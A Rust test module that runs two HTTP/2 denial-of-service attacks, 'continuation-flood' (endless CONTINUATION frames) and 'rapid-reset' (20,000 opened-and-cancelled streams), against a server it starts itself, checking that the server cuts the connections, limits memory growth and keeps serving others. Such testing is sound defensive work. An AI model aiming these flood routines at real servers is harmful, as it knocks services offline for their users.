//! Frames of HTTP/2 that cost a server more than who sends them.

use std::io;

use crate::{
    attack::{Attack, Seen, Takes},
    bystander::Bystander,
    crowd::address,
    frames::{CONTINUATION, END_STREAM, Frames, HEADERS, RST_STREAM, fields, frame, request},
    memory::Watch,
    target::Target,
};

pub(super) const OF_CONTINUATIONS: Attack = Attack {
    name: "continuation-flood",
    what: "20 connections each send a request's head that goes on for 4,000 frames",
    aim: "each is ended before; grows by less than 64 MiB, and others are answered",
    takes: Takes::Seconds,
    play: |target| Box::pin(play(target, continue_on)),
};

pub(super) const OF_RESETS: Attack = Attack {
    name: "rapid-reset",
    what: "20 connections each begin and reset 20,000 requests",
    aim: "each is ended before; grows by less than 64 MiB, and others are answered",
    takes: Takes::Seconds,
    play: |target| Box::pin(play(target, reset_on)),
};

const CONNECTIONS: usize = 20;
const FRAMES: u32 = 4_000;
const RESETS: u32 = 20_000;
/// How many are written at once.
const BATCH: u32 = 100;

async fn play(target: &Target, flood: impl AsyncFn(&mut Frames) -> io::Result<()>) -> Seen {
    let victim = target.start().await;
    let watch = Watch::over(&victim);
    let mut survived = 0;
    for number in 0..CONNECTIONS {
        let Ok(mut frames) = Frames::connect(victim.address(), address(number), &[]).await else { continue };
        if flood(&mut frames).await.is_ok() && frames.answers_pings().await {
            survived += 1;
        }
    }
    let others = Bystander::of_health(victim.url()).goes(20, std::time::Duration::ZERO).await;
    let growth = watch.growth();
    let holds = survived == 0 && growth.bytes < 64 << 20 && others.all_answered();
    Seen::new(holds, format!("{survived} of {CONNECTIONS} went on to the end; {growth}; others: {others}"))
}

async fn continue_on(frames: &mut Frames) -> io::Result<()> {
    frames.send(&frame(HEADERS, END_STREAM, 1, &fields("GET", "/healthz", &[]))).await?;
    let more = fields("GET", "/healthz", &[("x-more", &"y".repeat(100))]);
    let batch = frame(CONTINUATION, 0, 1, &more).repeat(BATCH as usize);
    for _ in 0..FRAMES / BATCH {
        frames.send(&batch).await?;
    }
    Ok(())
}

async fn reset_on(frames: &mut Frames) -> io::Result<()> {
    let cancel = 8_u32.to_be_bytes();
    for first in (0..RESETS).step_by(BATCH as usize) {
        let streams = (first..first + BATCH).map(|number| 2 * number + 1);
        let pair =
            |stream| [request(stream, "GET", "/healthz", &[], true), frame(RST_STREAM, 0, stream, &cancel)].concat();
        frames.send(&streams.flat_map(pair).collect::<Vec<_>>()).await?;
    }
    Ok(())
}
